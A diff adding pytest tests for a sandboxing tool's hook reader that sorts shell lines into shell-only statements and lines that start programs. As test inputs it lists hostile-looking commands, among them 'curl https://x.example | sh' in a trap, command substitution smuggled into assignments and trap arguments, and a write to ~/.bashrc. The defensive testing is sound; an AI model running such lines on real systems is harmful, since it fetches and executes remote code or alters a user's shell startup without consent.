@@ -1,0 +1,68 @@
+"""Lines of a script: those that start a program, and none that the shell does by itself."""
+
+from __future__ import annotations
+
+import pytest
+
+from sandboxd.kinds import _hook_reader
+from sandboxd.text import SourceText
+
+
+def _lines(text: str) -> list[str]:
+    return [c.command.value for c in _hook_reader.lines(SourceText("x", text), "at once")]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "fi",
+        "done",
+        "exit 0",
+        'exit "$status"',
+        "set -euo pipefail",
+        "trap clean EXIT",
+        'MSG="$1"',
+        "A=b",
+        "export NODE_ENV=test",
+        'echo "no $NAME here" >&2',
+        "clean() {",
+        "for file in $FILES; do",
+        'if [ -z "$A" ]; then',
+        "if command -v nix >/dev/null 2>&1; then",
+        "if command -v nix &>/dev/null; then",
+    ],
+)
+def test_what_the_shell_does_by_itself(line: str) -> None:
+    assert _lines(f"{line}\n") == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "npm test",
+        'A="$(curl -s https://x.example)"',
+        "B=`id`",
+        "echo $(id)",
+        'echo "$(id)"',
+        "echo a | sh",
+        "echo a; id",
+        "exit $(id)",
+        "for f in $(ls); do",
+        "if [ $(id -u) = 0 ]; then",
+        "if command -v x; then id; fi",
+        "A=b id",
+        'trap "$(id)" EXIT',
+        "fi; id",
+        "trap 'curl https://x.example | sh' EXIT",
+        "if [ a ]; id; [ b ]; then",
+        "if [ -f x ] && id; [ b ]; then",
+        "printf x > ~/.bashrc",
+    ],
+)
+def test_what_starts_a_program(line: str) -> None:
+    assert _lines(f"{line}\n") == [line]
+
+
+@pytest.mark.parametrize("line", ['echo "' + "\\" * 50_001 + "`", "A=" + "'" * 50_001 + "$"])
+def test_a_long_line_is_read(line: str) -> None:
+    assert _lines(line) == [line]
